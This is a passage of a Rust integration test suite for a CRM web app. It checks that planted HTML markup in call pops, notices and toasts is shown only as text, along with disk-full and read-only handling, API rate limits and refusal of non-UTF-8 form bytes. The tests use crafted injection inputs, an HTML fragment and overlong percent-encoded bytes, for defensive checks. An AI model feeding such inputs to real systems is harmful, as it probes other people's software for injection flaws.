        json!({"call_id": "c2", "extension": MARKUP, "user_id": me + 1, "by": MARKUP}),
        Audience::Users(vec![me]),
    ));
    bus.publish(Event::new(
        "call.live",
        json!({"now_ms": 1, "calls": [{"call_id": "c3", "number": MARKUP, "customer_name": MARKUP,
            "answered_user_id": me, "answered_user_name": MARKUP, "answered_ms": 1}]}),
        Audience::Everyone,
    ));
    let (s, _) = admin.post("/api/v1/notices", json!({"text": MARKUP})).await;
    assert_eq!(s, 201);
    // textContent (visible or not): each place holds the markup as text.
    let holds_text = |css: &'static str| {
        let b = &b;
        async move {
            eventually(Duration::from_secs(10), || async {
                let v = b
                    .client
                    .execute(
                        &format!("var e = document.querySelector('{css}'); return e ? e.textContent : '';"),
                        vec![],
                    )
                    .await
                    .ok()?;
                v.as_str()?.contains("<b class=planted>").then_some(())
            })
            .await
            .is_some()
        }
    };
    for css in [
        "#call-pops .pop-customer",
        "#call-pops .pop-balance",
        "#call-pops .pop-orders",
        "#call-pops .pop-last",
        "#call-pops .pop-number",
        ".pop-answered-by",
        "#call-status",
        "#notice-list",
        ".toast",
    ] {
        if css == "#notice-list" && b.client.find(Locator::Css(css)).await.is_err() {
            continue;
        }
        assert!(holds_text(css).await, "{css} shows the markup as text");
    }
    assert_eq!(
        planted("body").await,
        (0, true),
        "no planted element anywhere"
    );
    b.close().await;
}

// ---------------------------------------------------------------------------------------
// 9. A full, read-only or failing disk

async fn healthz(app: &TestApp) -> (u16, serde_json::Value) {
    let r = reqwest::get(app.url("/healthz")).await.unwrap();
    (r.status().as_u16(), r.json().await.unwrap())
}

fn doctor_says(app: &TestApp) -> String {
    use std::process::Command;
    // Not in the data dir: that disk may be full.
    let cfg = std::env::temp_dir().join(format!(
        "doctor-harden-{}.toml",
        app.running().http_addr.port()
    ));
    std::fs::write(
        &cfg,
        format!("http = \"{}\"\nsip = \"off\"\n", app.running().http_addr),
    )
    .unwrap();
    let out = Command::new(crm_bin())
        .arg("--data-dir")
        .arg(app.data_dir())
        .arg("--config")
        .arg(&cfg)
        .arg("doctor")
        .env_remove("CRM_HTTP")
        .env_remove("CRM_DATA_DIR")
        .env_remove("CRM_SIP")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A small tmpfs mounted over a temp dir: a real disk that fills up. Unmounted on drop.
struct TinyDisk {
    dir: Option<tempfile::TempDir>,
    path: std::path::PathBuf,
}

impl TinyDisk {
    fn mount(mib: u32) -> TinyDisk {
        let dir = tempfile::tempdir().unwrap();
        let ok = std::process::Command::new("mount")
            .args([
                "-t",
                "tmpfs",
                "-o",
                &format!("size={mib}m,mode=0700"),
                "tmpfs",
            ])
            .arg(dir.path())
            .status()
            .map(|s| s.success())
            .unwrap_or(false);
        assert!(
            ok,
            "mounting a tmpfs needs root (scripts/test runs as root)"
        );
        TinyDisk {
            path: dir.path().to_path_buf(),
            dir: Some(dir),
        }
    }

    /// Writes a filler file until the disk is full.
    fn fill(&self) {
        use std::io::Write;
        let mut f = std::fs::File::create(self.path.join("filler")).unwrap();
        let chunk = vec![0u8; 4096];
        while f.write_all(&chunk).is_ok() {}
        let _ = f.sync_all();
    }

    fn free(&self) {
        std::fs::remove_file(self.path.join("filler")).unwrap();
    }
}

impl Drop for TinyDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(&self.path)
            .status();
        drop(self.dir.take());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_full_or_read_only_disk_is_named_and_nothing_acknowledged_is_lost() {
    let disk = TinyDisk::mount(16);
    let data = tempfile::TempDir::new_in(&disk.path).unwrap();
    let mut cfg = crate::support::test_config(data.path());
    cfg.log = "error".into();
    let mut app = TestApp::spawn_config(cfg, data).await;
    app.add_user("admin", Role::Admin, ADMIN_PASSWORD).await;
    let api = Api::of(&app, "admin").await;
    let db = app.running().ctx.db.clone();
    // A person who reads Russian, on the web pages.
    let web = app.login_admin().await;
    let r = web
        .post_form("/lang", &[("lang", "ru"), ("back", "/")])
        .await;
    assert_eq!(r.status(), 303);
    let mut saved = vec![new_customer(&api, "Oldin", "90 111 22 33").await];
    disk.fill();
    let mut refused = None;
    for i in 0..400 {
        let (s, v) = api
            .post(
                "/api/v1/customers",
                json!({"name": format!("Mijoz {i} {}", "x".repeat(100)), "address": "y".repeat(290), "phones": [format!("90 2{:02} {:02} {:02}", i / 10000, (i / 100) % 100, i % 100)]}),
            )
            .await;
        if s == 201 {
            saved.push(v["id"].as_i64().unwrap());
        } else {
            refused = Some((s, v));
            break;
        }
    }
    let (s, v) = refused.expect("the full disk refuses a write");
    assert_eq!(s, 507, "{v}");
    assert_eq!(v["error"]["code"], "disk_full", "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("The disk is full"),
        "{v}"
    );
    // The page says it in the person's language.
    let r = web
        .post_form(
            "/customers",
            &[("name", "Yangi mijoz"), ("phone1", "90 333 22 11")],
        )
        .await;
    assert_eq!(r.status(), 507);
    let page = r.text().await.unwrap();
    assert!(page.contains("Диск заполнен"), "{page}");
    // /healthz and crm doctor name it.
    let (s, h) = healthz(&app).await;
    assert_eq!(
        (s, h["status"].as_str(), h["problem"].as_str()),
        (503, Some("degraded"), Some("disk_full")),
        "{h}"
    );
    assert_eq!(h["reason"], "the disk is full");
    let said = doctor_says(&app);
    assert!(
        said.lines()
            .any(|l| l.contains("storage") && l.contains("the disk is full")),
        "{said}"
    );
    // Space comes back: without a restart, writes work again and everything that was
    // acknowledged is there.
    disk.free();
    let (s, h) = healthz(&app).await;
    assert_eq!((s, h["status"].as_str()), (200, Some("ok")), "{h}");
    new_customer(&api, "Qaytdi", "90 444 55 66").await;
    for id in &saved {
        let (s, _) = api.get(&format!("/api/v1/customers/{id}")).await;
        assert_eq!(s, 200, "acknowledged customer {id} is kept");
    }

    // A file system gone read-only (as SQLite reports it).
    db.maintenance(|c| Ok(c.pragma_update(None, "query_only", true)?))
        .await
        .unwrap();
    let (s, v) = api
        .post(
            "/api/v1/customers",
            json!({"name": "Yozilmaydi", "phones": ["90 555 44 33"]}),
        )
        .await;
    assert_eq!(
        (s.as_u16(), v["error"]["code"].as_str()),
        (503, Some("read_only")),
        "{v}"
    );
    let (s, h) = healthz(&app).await;
    assert_eq!((s, h["problem"].as_str()), (503, Some("read_only")), "{h}");
    assert!(doctor_says(&app).contains("read-only"));
    db.maintenance(|c| Ok(c.pragma_update(None, "query_only", false)?))
        .await
        .unwrap();
    let (s, h) = healthz(&app).await;
    assert_eq!((s, h["status"].as_str()), (200, Some("ok")), "{h}");
    new_customer(&api, "Yana qaytdi", "90 555 44 33").await;
    app.stop().await;
}

// ---------------------------------------------------------------------------------------
// 10. API request limits

#[tokio::test]
async fn the_api_limits_each_token_and_each_address_with_retry_after() {
    let app = TestApp::spawn_with(|c| {
        c.api_limits.per_token = 2;
        c.api_limits.per_token_burst = 10;
        c.api_limits.per_address = 4;
        c.api_limits.per_address_burst = 25;
    })
    .await;
    app.add_user("admin", Role::Admin, ADMIN_PASSWORD).await;
    let t1 = app.api_token("admin").await;
    let t2 = app.api_token("admin").await;
    let client = reqwest::Client::new();
    let get = |token: Option<&str>| {
        let mut r = client
            .get(app.url("/api/v1/me"))
            .header("accept-language", "en");
        if let Some(t) = token {
            r = r.bearer_auth(t);
        }
        async move { r.send().await.unwrap() }
    };
    // One token: its burst, then 429 with Retry-After and the API's error shape.
    let mut ok = 0;
    let mut limited = None;
    for _ in 0..30 {
        let r = get(Some(&t1)).await;
        if r.status() == 200 {
            ok += 1;
        } else {
            limited = Some(r);
            break;
        }
    }
    assert_eq!(ok, 10, "the token's burst");
    let r = limited.expect("the token is limited");
    assert_eq!(r.status(), 429);
    let retry: u64 = r.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=2).contains(&retry), "{retry}");
    let v: serde_json::Value = r.json().await.unwrap();
    assert_eq!(v["error"]["code"], "rate_limited");
    assert!(v["error"]["message"]
        .as_str()
        .unwrap()
        .contains("Too many requests"));
    // Another token from the same address still gets through...
    assert_eq!(get(Some(&t2)).await.status(), 200);
    // ... until the address's own limit: anonymous or wrong tokens count too.
    let mut statuses = Vec::new();
    for i in 0..30 {
        let tok = format!("crm_wrong{i}");
        statuses.push(get(Some(&tok)).await.status().as_u16());
    }
    assert!(
        statuses.contains(&401) && statuses.last() == Some(&429),
        "{statuses:?}"
    );
    let r = get(Some(&t2)).await;
    assert_eq!(r.status(), 429);
    assert!(r.headers().contains_key("retry-after"));
    // Pages and /healthz are not the API: not limited.
    assert_eq!(
        reqwest::get(app.url("/healthz")).await.unwrap().status(),
        200
    );
    assert_eq!(reqwest::get(app.url("/login")).await.unwrap().status(), 200);
    // The budget refills: after Retry-After, the token works again.
    tokio::time::sleep(Duration::from_secs(retry.max(1) + 1)).await;
    let back = eventually(Duration::from_secs(10), || async {
        (get(Some(&t1)).await.status() == 200).then_some(())
    })
    .await;
    assert!(back.is_some(), "the token gets through again");
}

/// Text that is not UTF-8, percent-encoded in a form or a query string, is refused before
/// any handler with the catalogue's message naming the field (the extractors would turn
/// it into U+FFFD and store it); a good form still goes through whole.
#[tokio::test]
async fn forms_and_queries_that_are_not_utf8_are_refused_by_name() {
    let app = TestApp::spawn().await;
    let admin = app.login_admin().await;
    let post = |body: String| {
        let admin = &admin;
        async move {
            admin
                .client
                .post(admin.url("/customers"))
                .header("content-type", "application/x-www-form-urlencoded")
                .header("accept-language", "ru")
                .body(body)
                .send()
                .await
                .unwrap()
        }
    };
    let csrf = admin.csrf.clone();
    for body in [
        format!("name=%FF%FEabc&phone1=901112233&_csrf={csrf}"),
        format!("name=ok&phone1=901112233&notes=%C0%AF&_csrf={csrf}"),
    ] {
        let r = post(body).await;
        assert_eq!(r.status(), 400);
        let text = r.text().await.unwrap();
        assert!(text.contains("UTF-8"), "{text}");
        assert!(text.contains("name") || text.contains("notes"), "{text}");
    }
    let r = admin.get("/customers?q=%FF").await;
    assert_eq!(r.status(), 400);
    let api = Api::of(&app, "admin").await;
    let (st, v) = api.get("/api/v1/customers?limit=5").await;
    assert_eq!(st, 200);
    assert_eq!(
        v["items"].as_array().map(Vec::len),
        Some(0),
        "nothing stored: {v}"
    );
    // Cyrillic, percent-encoded, is fine.
    let r = post(format!(
        "name=%D0%94%D0%B8%D0%BB%D0%BD%D0%BE%D0%B7%D0%B0&phone1=901112233&_csrf={csrf}"
    ))
    .await;
    assert_eq!(r.status(), 303);
}
